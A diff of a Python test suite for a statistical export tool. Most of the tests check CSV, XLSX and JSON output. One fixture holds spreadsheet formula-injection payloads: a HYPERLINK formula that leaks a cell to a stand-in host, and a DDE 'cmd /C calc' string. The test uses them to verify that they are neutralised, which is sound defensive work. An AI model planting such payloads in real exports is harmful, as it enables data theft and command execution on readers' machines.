@@ -4,8 +4,10 @@ them, and the data-quality check: findings come and go with the data, the comman
 from __future__ import annotations
 
 import csv
+import hashlib
 import io
 import json
+import re
 import shutil
 from collections.abc import Iterator
 from datetime import date
@@ -81,8 +83,9 @@ def _expected(profile: profiles.Profile, tables: list[AggregateTable]) -> list[A
 
 
 def _printed(table: AggregateTable, k: int = 5) -> list[list[str]]:
+    """The rows as the printed CSV writes them: plain numbers (2629, never 2.629), markers, `≥ n`."""
     _header, rows = profile_files.lines(table, "it")
-    return [[name, *(profile_files.shown(v, f, table.unit, k) for v, f in values)] for name, values in rows]
+    return [[name, *(profile_files.plain(v, f, table.unit, k) for v, f in values)] for name, values in rows]
 
 
 @pytest.mark.parametrize("name", ["istat-utenza", "istat-centri", "lombardia"])
@@ -106,7 +109,7 @@ def test_xlsx_read_back_holds_exactly_the_package_values(ws: Workspace, tmp_path
             assert got_row[0] == want_row[0]
             for got, printed in zip(got_row[1:], want_row[1:], strict=True):
                 # a published exact value is a number in the sheet; hidden and lower bounds are text
-                text = got if isinstance(got, str) else profile_files.shown(got, False, table.unit, 5)
+                text = got if isinstance(got, str) else profile_files.plain(got, False, table.unit, 5)
                 assert text == printed, (table.id, want_row[0])
                 lower_bounds += isinstance(got, str) and got.startswith("≥")
     assert name != "istat-utenza" or lower_bounds  # its coarser categories do sum hidden parts
@@ -125,8 +128,9 @@ def test_csv_parsed_with_the_csv_module_and_json_hold_the_same_values(ws: Worksp
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
     for table in expected:
         start = rows.index([table.title])
-        grid = rows[start + 5 : start + 5 + len(table.rows) + 1]
-        assert grid == _printed(table), table.id
+        want = _printed(table)
+        assert rows[start + 5 : start + 5 + len(want)] == want, table.id
+        assert rows[start + 5 + len(want)] == []  # nothing under the grid: "Totale" only over a sum
 
     document = json.loads(out_json.path.read_bytes())
     assert document["profile"]["id"] == "istat-utenza" and document["period"]["code"] == "2025"
@@ -156,7 +160,7 @@ def test_the_funder_profile_puts_each_desk_in_a_column(ws: Workspace, tmp_path: 
     result = exports.export_profile(ws, profile, parse_period(YEAR), desks, "json", tmp_path / "f.json")
     document = json.loads(result.path.read_bytes())
     women = document["tables"][0]
-    assert [c["label"] for c in women["cols"]] == ["Bergamo", "Treviglio", "Totale"]
+    assert [c["label"] for c in women["cols"]] == ["Bergamo", "Treviglio"]  # the total: row_totals
     bergamo = _expected(profile, _package_tables(ws, YEAR, tmp_path, desks[:1]))[0]
     assert [row[0] for row in women["cells"]] == [row[0] for row in bergamo.cells]
     # the whole centre overlaps the desks released alone: refused, as any subtraction would be
@@ -232,6 +236,21 @@ def test_the_command_line_exports_a_profile_and_prints_the_quality_summary(
     rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
     assert rows[0] == [profiles.load("lombardia").title]
     assert out.with_suffix(".pdf").exists()
+    long = tmp_path / "lombardia-long.csv"
+    done = run_cli(
+        ["export", "--data-dir", str(folder), "--user", "anna", "--password-stdin", "--period", "2025-H2",
+         "--profile", "lombardia", "--out", str(long), "--layout", "long"],
+        tmp_path, PASSWORD,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    header = next(csv.reader(io.StringIO(long.read_text(encoding="utf-8-sig")), delimiter=";"))
+    assert header == list(profile_files.LONG_COLUMNS)
+    package_only = run_cli(
+        ["export", "--data-dir", str(folder), "--user", "anna", "--password-stdin", "--period", "2025-H2",
+         "--layout", "long", "--out", str(tmp_path / "p.json")],
+        tmp_path, PASSWORD,
+    )  # fmt: skip
+    assert package_only.returncode == 1 and "--layout" in package_only.stderr  # the package has one layout
     quality = run_cli(
         ["quality", "--data-dir", str(folder), "--user", "anna", "--password-stdin", "--period", "2025"],
         tmp_path, PASSWORD,
@@ -374,3 +393,169 @@ def test_the_structure_tables_count_each_desk_once() -> None:
     hours = tables["structure_desk_hours"]
     assert hours.total == 10 and hours.total_lower_bound and hours.col_lower_bound == [True]
     assert stated.not_entered_percent(tables["structure_languages"]) == 50
+
+
+HOSTILE_PROFILE = """[profile]
+format = 1
+id = "ostile"
+version = 1
+title = '=HYPERLINK("http://x.example/?d="&A2,"Apri")'
+target = "+Finanziatore"
+periods = ["year"]
+
+[[tables]]
+id = "donne"
+title = "@SUM(1+1)*cmd|' /C calc'!A0"
+source = "flow"
+[tables.rows]
+RECEIVED = { label = "-2+3", from = ["RECEIVED"] }
+ACTIVE = { label = "=1+1", from = ["ACTIVE"] }
+"""
+
+
+def test_text_that_a_spreadsheet_would_run_is_written_as_text(ws: Workspace, tmp_path: Path) -> None:
+    """A title or label beginning with = + - @ (or a tab, a carriage return) is a formula to Excel and
+    LibreOffice: in the XLSX it is a string cell, in the CSV it starts with an apostrophe."""
+    source = tmp_path / "ostile.toml"
+    source.write_text(HOSTILE_PROFILE, encoding="utf-8")
+    profile = exports.load_profile(source)
+    period = parse_period(YEAR)
+    hostile = {profile.title, profile.tables[0].title, "-2+3", "=1+1"}
+    for layout in profile_files.LAYOUTS:
+        result = exports.export_profile(
+            ws, profile, period, None, "xlsx", tmp_path / f"{layout}.xlsx", layout=layout
+        )
+        book = load_workbook(result.path)  # not read-only: the cell types are read as written
+        seen = set()
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
+                        assert cell.data_type == "s", (layout, sheet.title, cell.coordinate, cell.value)
+                        seen.add(cell.value)
+        assert hostile <= seen, layout
+        written = exports.export_profile(
+            ws, profile, period, None, "csv", tmp_path / f"{layout}.csv", layout=layout
+        )
+        text = written.path.read_text("utf-8-sig")
+        cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], layout
+        in_csv = hostile if layout == "printed" else hostile - {profile.title}  # no cover in the long CSV
+        assert {"'" + text for text in in_csv} <= set(cells), layout
+
+
+@pytest.mark.parametrize("text", ["=A1", "+1", "-1", "@A1", "\tx", "\rx"])
+def test_every_formula_start_is_neutralised(text: str) -> None:
+    assert profile_files.csv_text(text) == "'" + text
+    assert profile_files.csv_text("a" + text) == "a" + text
+
+
+# --- files other software reads --------------------------------------------------------------------------
+SCHEMA = Path(__file__).resolve().parents[1] / "resources" / "profile-export.schema.json"
+CODE = re.compile(r"[A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+|[A-Z]{4,}[0-9]*")
+"""What an internal code looks like: upper case with underscores (`WOMEN_CONTACTED`) or a long word in
+capitals (`RECEIVED`); two- or three-letter codes (`ND`, `SI`, `LUN`) read as words and are left out."""
+
+
+def _internal_codes(profile: profiles.Profile) -> set[str]:
+    """Every row and column code of the tables this profile lays out (and its own categories)."""
+    known = profiles.catalogue()
+    codes: set[str] = set()
+    for spec in profile.tables:
+        codes |= {*known[spec.source].rows, *known[spec.source].cols}
+        codes |= {c.code for c in (*(spec.rows or ()), *(spec.cols or ()))}
+    return {c for c in codes if CODE.fullmatch(c)}
+
+
+def _codes_in(texts: list[str], codes: set[str]) -> set[str]:
+    return {word for text in texts for word in re.findall(r"[A-Za-z0-9_]+", text) if word in codes}
+
+
+@pytest.mark.parametrize("name", ["istat-utenza", "istat-centri", "lombardia", "finanziatore"])
+def test_no_output_shows_an_internal_code_as_a_label(ws: Workspace, tmp_path: Path, name: str) -> None:
+    """Printed XLSX and CSV, the PDF preview, the long layout's labels and the JSON labels: a person
+    reads "Donne che hanno contattato", never `WOMEN_CONTACTED`. The packages whose SHA-256 the file
+    lists are beside it, and verify."""
+    profile = profiles.load(name)
+    period = parse_period(YEAR)
+    codes = _internal_codes(profile) - {"ASCOLTO"}  # a service's code, and the app's name on the cover
+    assert name != "istat-centri" or "WOMEN_CONTACTED" in codes
+    shown: dict[str, list[str]] = {}
+    for fmt, layout in [("xlsx", "printed"), ("xlsx", "long"), ("csv", "printed"), ("csv", "long")]:
+        out = tmp_path / f"{layout}.{fmt}"
+        result = exports.export_profile(ws, profile, period, None, fmt, out, layout=layout)
+        if fmt == "xlsx":
+            book = load_workbook(result.path, read_only=True)
+            sheets = [[list(r) for r in sheet.iter_rows(values_only=True)] for sheet in book.worksheets]
+        else:
+            sheets = [list(csv.reader(io.StringIO(result.path.read_text("utf-8-sig")), delimiter=";"))]
+        if layout == "long":  # the code columns hold codes by design; their labels must not
+            header = list(sheets[0][0])
+            counted = {frozenset(row[header.index("sportelli")].split(", ")) for row in sheets[0][1:]}
+            names = {d.name for d in accounts.list_help_desks(ws)}
+            each = {frozenset({n}) for n in names} if profile.by_desk else set()
+            assert counted == each | {frozenset(names)}  # a desk's own column, or all of them
+            labels = [header.index("etichetta_riga"), header.index("etichetta_colonna")]
+            sheets[0] = [[row[i] for i in labels] for row in sheets[0][1:]]
+        rows = [row for sheet in sheets for row in sheet]
+        shown[f"{layout} {fmt}"] = [str(v) for row in rows for v in row if v is not None]
+    result = exports.export_profile(ws, profile, period, None, "json", tmp_path / "out.json")
+    document = json.loads(result.path.read_bytes())
+    shown["json"] = [c["label"] for t in document["tables"] for c in (*t["rows"], *t["cols"])]
+    shown["pdf"] = [page.extract_text() for page in PdfReader(result.preview_path).pages]
+    for where, texts in shown.items():
+        assert not _codes_in(texts, codes), (name, where, sorted(_codes_in(texts, codes))[:10])
+    for text in shown["pdf"]:
+        assert not re.search(r"(?<![\w<])k(?![\w])", text), "k is not a word for people"
+    for ref in document["release_packages"]:
+        beside = result.path.with_name(ref["file"])
+        assert hashlib.sha256(beside.read_bytes()).hexdigest() == ref["sha256"]
+        assert package.load_package(beside.read_bytes()).desks == ref["desks"]
+    assert len(document["release_packages"]) == (len(document["desks"]) if profile.by_desk else 1)
+    jsonschema = pytest.importorskip("jsonschema")
+    jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text(encoding="utf-8"))).validate(document)
+
+
+def test_the_long_layout_reads_in_pandas_and_openpyxl_with_the_values_of_the_json(
+    ws: Workspace, tmp_path: Path
+) -> None:
+    """One row per published value, the header on the first line, numbers numeric (hours plain: 2629,
+    never 2.629), hidden values empty with their sign in a column of their own."""
+    pd = pytest.importorskip("pandas")
+    profile = profiles.load("lombardia")
+    period = parse_period(YEAR)
+    long_csv = exports.export_profile(ws, profile, period, None, "csv", tmp_path / "l.csv", layout="long")
+    long_xlsx = exports.export_profile(ws, profile, period, None, "xlsx", tmp_path / "l.xlsx", layout="long")
+    document = json.loads(
+        exports.export_profile(ws, profile, period, None, "json", tmp_path / "l.json").path.read_bytes()
+    )
+
+    frame = pd.read_csv(long_csv.path, sep=";", decimal=",", keep_default_na=False, na_values=[""])
+    assert list(frame.columns) == list(profile_files.LONG_COLUMNS)
+    assert pd.api.types.is_numeric_dtype(frame["valore"])
+    sheet = pd.read_excel(long_xlsx.path, keep_default_na=False, na_values=[""])  # the first sheet
+    assert list(sheet.columns) == list(profile_files.LONG_COLUMNS)
+    assert pd.api.types.is_numeric_dtype(sheet["valore"])
+    assert frame["valore"].fillna(-1).tolist() == sheet["valore"].fillna(-1).tolist()
+    assert set(frame["segno"].fillna("")) <= {"", "<5", "n.p.", "≥"}
+    assert (frame["periodo"].astype(str) == YEAR).all() and (frame["dal"] == "2025-01-01").all()
+
+    expected = {}
+    for t in document["tables"]:
+        for i, row in enumerate(t["rows"]):
+            for j, col in enumerate(t["cols"]):
+                expected[t["id"], row["code"], col["code"]] = (t["cells"][i][j], t["lower_bound"][i][j])
+        expected[t["id"], "_total", "_total" if len(t["cols"]) > 1 else t["cols"][0]["code"]] = (
+            t["total"], t["total_lower_bound"],
+        )  # fmt: skip
+    got = {
+        (r.tabella, r.riga, r.colonna): (None if pd.isna(r.valore) else r.valore, r.segno)
+        for r in frame.fillna({"segno": ""}).itertuples()
+    }
+    for key, (value, lower) in expected.items():
+        number, sign = got[key]
+        assert number == value, key
+        assert sign == ("≥" if lower else "") if value is not None else sign in ("<5", "n.p."), key
+    hours = frame[frame["tabella"] == "ore"]
+    assert hours["valore"].max() > 999  # plain numbers: a thousand hours is not read as 1.0
+    assert document["tables"][0]["rows"][0]["label"] in set(frame["etichetta_riga"])
